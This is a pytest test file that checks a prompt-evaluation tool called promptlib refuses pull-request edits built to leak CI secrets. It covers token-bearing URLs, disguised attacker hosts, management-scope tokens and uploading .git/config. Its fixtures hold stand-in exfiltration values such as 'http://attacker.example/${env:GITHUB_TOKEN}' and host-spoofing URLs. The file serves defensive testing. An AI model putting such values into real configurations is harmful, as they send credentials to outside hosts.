"""A pull request cannot send CI's secrets anywhere: not to its own host, not in a URL, not as an "image".

Each attack edits the PR's promptlib.yaml or suites as its author would; CI then runs `check` (which must go
red, naming the file and line) and `eval` (which must refuse with exit 2 before opening any connection).
The foreign host is a loopback listener set as every proxy, so a request that leaves would be recorded.
"""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from e2e.helpers import promptlib, write

from promptlib import ExecutionError, Library
from promptlib.client._client import ImagesClient, RetryPolicy
from promptlib.client._requests import ImageRequest
from promptlib.deployments import endpoint_for
from promptlib.emulator import EmulatorConfig, running_emulator

from .conftest import AZURE_KEY, GITHUB_TOKEN, CiJob, Listener, git


def redefine_local(root: Path, **deployment: object) -> int:
    """The PR's edit: the deployment CI pins (`local`) becomes whatever the attacker wants; returns its line."""
    path = root / "promptlib.yaml"
    config = yaml.safe_load(path.read_text())
    config["deployments"]["local"] = deployment
    path.write_text(yaml.safe_dump(config, sort_keys=False))
    return 1 + next(i for i, line in enumerate(path.read_text().splitlines()) if line.startswith("  local:"))


def line_of(root: Path, text: str) -> int:
    return 1 + next(i for i, line in enumerate((root / "promptlib.yaml").read_text().splitlines()) if text in line)


def assert_nothing_leaked(root: Path, ci: CiJob, *outputs: str) -> None:
    """No secret in any output line, any file promptlib wrote, or the job summary."""
    written = [p for p in (root / ".promptlib").rglob("*") if p.is_file()] + [ci.step_summary]
    for secret in ci.secrets:
        for output in outputs:
            assert secret not in output
        for path in written:
            assert secret.encode() not in path.read_bytes(), path


def azure(endpoint: str, **extra: object) -> dict[str, object]:
    return {
        "kind": "azure-openai",
        "endpoint": endpoint,
        "deployment": "images",
        "model": "gpt-image-2",
        "auth": {"type": "api-key", "env": "AZURE_OPENAI_API_KEY"},
        **extra,
    }


def test_a_token_in_the_endpoint_path_is_refused_at_load(pr: Path, ci: CiJob, foreign_host: Listener) -> None:
    line = redefine_local(pr, **azure("http://attacker.example/${env:GITHUB_TOKEN}"))
    runs_before = set((pr / ".promptlib/runs").iterdir())

    check, run = promptlib(pr, "check"), promptlib(pr, "eval")

    for result in (check, run):
        assert result.exit_code == 2
        assert result.output == (
            f"error: promptlib.yaml:{line + 2}: deployments.local.endpoint: ${{env:NAME}} must "
            "be the whole value (`endpoint: ${env:NAME}`), never part of a URL\n"
        )
    assert foreign_host.received == []
    assert set((pr / ".promptlib/runs").iterdir()) == runs_before  # no run was even started
    assert_nothing_leaked(pr, ci, check.output, run.output)


@pytest.mark.parametrize(
    "endpoint",
    [
        "https://attacker.example",
        "http://attacker.example",
        "https://contoso.openai.azure.com.attacker.example",  # an Azure name as a subdomain of theirs
        "https://attacker.example/contoso.openai.azure.com",  # ... or in the path
        "https://contoso.openai.azure.com@attacker.example",  # ... or as a user name
        "https://attacker-openai.azure.com.example",
        "http://contoso.openai.azure.com",  # a real Azure host over plain http
        "https://10.0.0.5",
    ],
)
def test_a_host_that_is_not_azure_never_gets_the_key(
    pr: Path, ci: CiJob, foreign_host: Listener, endpoint: str
) -> None:
    redefine_local(pr, **azure(endpoint))
    line = line_of(pr, "endpoint:")

    check, run = promptlib(pr, "check"), promptlib(pr, "eval")

    assert check.exit_code == 1
    problem = [out for out in check.output.splitlines() if out.startswith("promptlib.yaml:")]
    assert problem and problem[0].startswith(f"promptlib.yaml:{line}: deployment 'local': endpoint ")
    assert run.exit_code == 2
    assert run.output.startswith(f"error: promptlib.yaml:{line}: deployment 'local': endpoint ")
    assert run.output.count("\n") == 1
    assert foreign_host.received == []
    assert_nothing_leaked(pr, ci, check.output, run.output)


def test_an_endpoint_read_from_the_key_variable_is_never_echoed(pr: Path, ci: CiJob, foreign_host: Listener) -> None:
    """`endpoint: ${env:AZURE_OPENAI_API_KEY}` used to print the key in `endpoint must start with https:// (got …)`."""
    redefine_local(pr, **azure("${env:AZURE_OPENAI_API_KEY}"))

    check, run = promptlib(pr, "check"), promptlib(pr, "eval")

    assert (check.exit_code, run.exit_code) == (1, 2)
    assert "deployment 'local': endpoint must start with https:// and name a host" in run.output
    assert foreign_host.received == []
    assert_nothing_leaked(pr, ci, check.output, run.output)


def test_an_entra_token_for_another_audience_is_never_requested(pr: Path, ci: CiJob, foreign_host: Listener) -> None:
    """An Azure Resource Manager token would let the PR act on the subscription."""
    redefine_local(
        pr,
        **azure(
            "https://contoso.openai.azure.com", auth={"type": "entra", "scope": "https://management.azure.com/.default"}
        ),
    )
    line = line_of(pr, "auth:")

    check, run = promptlib(pr, "check"), promptlib(pr, "eval")

    assert check.exit_code == 1
    expected = (
        f"promptlib.yaml:{line}: deployment 'local': Entra scope 'https://management.azure.com/.default' is "
        "not an Azure OpenAI audience"
    )
    assert expected in check.output
    assert (run.exit_code, run.output.startswith(f"error: {expected}")) == (2, True)
    assert foreign_host.received == []


def test_an_edit_case_cannot_upload_the_git_config(pr: Path, ci: CiJob) -> None:
    """`image: .git/config` would upload the checkout's credentials as an "image" to whatever endpoint runs."""
    (pr / ".git/config").write_text('[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic c2VjcmV0\n')
    write(
        pr,
        "evals/steal.yaml",
        "cases:\n  - id: upload\n    prompt: edits/replace-background\n"
        "    variables: {image: .git/config, mask: assets/edit/product-mask.png}\n",
    )
    with running_emulator(EmulatorConfig(api_key=AZURE_KEY)) as url:
        app_url = url
        redefine_local(pr, **azure(app_url))
        check = promptlib(pr, "check")
        run = promptlib(pr, "eval", "steal")

    assert check.exit_code == 1
    assert (
        "evals/steal.yaml:2: case upload: edits/replace-background: image 'image' path '.git/config' is inside "
        ".git/ or .promptlib/"
    ) in check.output
    assert run.exit_code == 1
    assert "steal/upload: edits/replace-background: image 'image' path '.git/config' is inside .git/" in run.output


def test_an_edit_input_must_be_a_real_image(pr: Path, ci: CiJob) -> None:
    """Any project file that is not a PNG/JPEG/WEBP is refused before upload, whatever its name."""
    write(pr, "assets/notes.png", "[credentials]\ntoken = abc\n")
    write(
        pr,
        "evals/steal.yaml",
        "cases:\n  - id: upload\n    prompt: edits/replace-background\n"
        "    variables: {image: assets/notes.png, mask: assets/edit/product-mask.png}\n",
    )

    check = promptlib(pr, "check")

    assert check.exit_code == 1
    assert "case upload: edits/replace-background: image 'image' is not a readable image" in check.output


# --- what still works ------------------------------------------------------------------------------------


def test_the_served_emulator_on_loopback_still_works(pr: Path, ci: CiJob) -> None:
    """Plain http is fine to 127.0.0.1: nothing leaves the machine."""
    with running_emulator(EmulatorConfig(api_key=AZURE_KEY)) as url:
        redefine_local(pr, **azure(url))
        check = promptlib(pr, "check")
        run = promptlib(pr, "eval", "brand/icon-padlock", "--refresh")
    assert check.exit_code == 0, check.output
    assert run.exit_code in (0, 1), run.output  # goldens came from the in-process emulator: a verdict, not a refusal
    assert "error:" not in run.output


def test_an_allow_listed_gateway_is_reached(
    pr: Path, ci: CiJob, foreign_host: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CI environment (never the repository) vouches for a gateway; requests then go to it. This is also
    the proof that the listener would have seen the other attacks' requests."""
    monkeypatch.setenv("PROMPTLIB_ALLOWED_HOSTS", "apim.contoso.example")
    redefine_local(pr, **azure("https://apim.contoso.example"))
    library = Library.load(pr)
    client = ImagesClient(endpoint_for(library.settings, "local"), RetryPolicy(attempts=1))
    rendered = library.render("icons/feature-icon", subject="a closed padlock")

    check = promptlib(pr, "check")
    with pytest.raises(ExecutionError):  # the listener hangs up: what matters is that it was asked
        client.generate(ImageRequest.from_rendered(rendered, deployment="local", model="gpt-image-1.5"))

    assert check.exit_code == 0, check.output
    assert foreign_host.received and foreign_host.received[0].startswith(b"CONNECT apim.contoso.example:443")


def test_the_allow_list_is_not_read_from_the_repository(pr: Path, ci: CiJob, foreign_host: Listener) -> None:
    write(pr, ".env", "PROMPTLIB_ALLOWED_HOSTS=attacker.example\n")
    redefine_local(pr, **azure("https://attacker.example"))
    assert promptlib(pr, "eval").exit_code == 2
    assert foreign_host.received == []


def test_ci_can_pin_the_deployments_to_the_base_branch(
    pr: Path, ci: CiJob, foreign_host: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With PROMPTLIB_TRUSTED_CONFIG, even an Azure host the PR's author owns is never used: the deployments
    are main's, and the run says so."""
    redefine_local(pr, **azure("https://attackers-own-resource.openai.azure.com"))
    git(pr, "checkout", "-q", "-b", "pr")
    git(pr, "commit", "-q", "-am", "use my resource")
    monkeypatch.setenv("PROMPTLIB_TRUSTED_CONFIG", "main")

    check, run = promptlib(pr, "check"), promptlib(pr, "eval", "brand/icon-padlock")

    note = (
        "note: deployments come from main's promptlib.yaml (PROMPTLIB_TRUSTED_CONFIG); this change's edits to "
        "them take effect once merged"
    )
    assert check.exit_code == 0 and note in check.output
    assert run.exit_code == 0 and note in run.output
    assert foreign_host.received == []


def test_a_trusted_ref_that_does_not_exist_is_a_config_error(
    pr: Path, ci: CiJob, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PROMPTLIB_TRUSTED_CONFIG", "origin/no-such-branch")
    result = promptlib(pr, "eval")
    assert result.exit_code == 2
    assert "PROMPTLIB_TRUSTED_CONFIG='origin/no-such-branch' names no commit" in result.output
    assert GITHUB_TOKEN not in result.output
